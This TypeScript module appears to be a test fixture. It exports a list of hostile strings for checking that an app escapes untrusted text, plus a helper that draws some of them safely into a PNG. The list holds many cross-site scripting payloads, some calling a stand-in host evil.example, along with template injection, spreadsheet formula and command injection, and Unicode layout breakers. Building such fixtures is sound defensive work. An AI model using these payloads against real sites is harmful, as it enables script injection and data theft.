import sharp from 'sharp';

/** Every way out of text that we know of: each calls `alert`, asks a stranger for something, or breaks the layout. */
export const hostileTexts: readonly string[] = [
  // Elements that run something by themselves.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="http://evil.example/pixel.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=//evil.example/x.swf>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  // Elements that change the page around them.
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>body{display:none}</style>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<form action=http://evil.example/><input name=q></form>',
  '<a href="javascript:alert(1)">click</a>',
  '<plaintext>',
  '<xmp><!--',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  // Out of an attribute.
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  '` onmouseover=alert(1) x=`',
  '"/><polygon onload=alert(1) points="0,0',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  // Out of a script, a template, or a text that is unescaped twice.
  "';alert(1);//",
  '"-alert(1)-"',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<\u0000script>alert(1)</script>',
  // For a spreadsheet.
  '=HYPERLINK("http://evil.example/";"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  // Against the layout.
  'W'.repeat(3_000),
  '\u202E\u202Dtxet desrever\u2066',
  '\u202E'.repeat(50),
  `Z${'\u0334\u0349\u0360\u030D'.repeat(60)}algo`,
  '\u200B\u200D\uFEFF\u2060',
  '\uD83D',
  '\uFDFD'.repeat(40),
  '𒐫'.repeat(60),
  '👨‍👩‍👧‍👦'.repeat(80),
  'עברית with English ואז עוד, 123',
  '\t\t\t\ttabs\t\t\t\t',
  'line\r\nbreaks\u2028and\u2029others',
];

/** Those that an engine reads as they are when they are drawn: short, in plain letters. */
export const drawnTexts = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', "';alert(3);//"] as const;

/** A picture with these lines on it. */
export function drawTexts(lines: readonly string[]): Promise<Buffer> {
  const escape = (text: string): string =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  const rows = lines.map((text, row) => `<text x="40" y="${80 + row * 70}">${escape(text)}</text>`);
  const height = lines.length * 70 + 60;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="${height}">
    <rect width="100%" height="100%" fill="white"/>
    <g font-family="DejaVu Sans, Liberation Sans, sans-serif" font-size="40" fill="black">${rows.join('')}</g>
  </svg>`;
  return sharp(Buffer.from(svg)).png().toBuffer();
}
